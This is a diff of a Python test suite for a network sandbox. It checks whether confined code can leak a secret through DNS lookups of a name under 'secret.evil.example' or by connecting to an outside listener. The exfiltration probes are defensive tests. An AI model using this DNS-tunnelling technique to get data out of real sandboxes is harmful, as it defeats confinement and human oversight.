@@ -13,12 +13,9 @@ from arena import Arena
 from listeners import Listeners
 from test_network import INSIDE, OUTSIDE, REACH
 
-REACH = {
-    **REACH,
-    "allowed": [],
-    "names": [("target.example", False, 0)],
-    "pins": [("target.example", [INSIDE])],
-}
+NAMED = REACH._replace(
+    allowed=(), names=(("target.example", False, 0),), pins=(("target.example", (INSIDE,)),)
+)
 
 ASKING = """
 def question(name):
@@ -99,13 +96,13 @@ def test_64_a_secret_in_a_question(arena: Arena, resolver: Resolver):
     said = arena.run(ASKING + """
 for name, ask in (("packet", packet), ("connected", connected), ("stream", stream)):
     print(name, "answer", ask(f"{name}.secret.evil.example"))
-""", resolver.address, reach=REACH)  # fmt: skip
+""", resolver.address, reach=tuple(NAMED))  # fmt: skip
     heard = [
         name
         for name in ("packet", "connected", "stream")
         if any(name.encode() in each for each in resolver.questions)
     ]
-    if arena.cell.level == "off":
+    if not arena.cell.confined:
         assert heard == ["packet", "connected", "stream"], said
     else:
         assert resolver.questions == []
@@ -122,9 +119,9 @@ for name, ask in (("packet", packet), ("connected", connected), ("stream", strea
     print(name, "answer", code, address)
     with socket.create_connection((address, int(ARGS[1])), 20) as s:
         s.recv(100)
-""", resolver.address, listeners.port, reach=REACH)  # fmt: skip
+""", resolver.address, listeners.port, reach=tuple(NAMED))  # fmt: skip
         escaped = listeners.heard(OUTSIDE)
-        if arena.cell.level == "off":
+        if not arena.cell.confined:
             assert len(escaped) == 3, said
         else:
             assert escaped == [] and resolver.questions == []
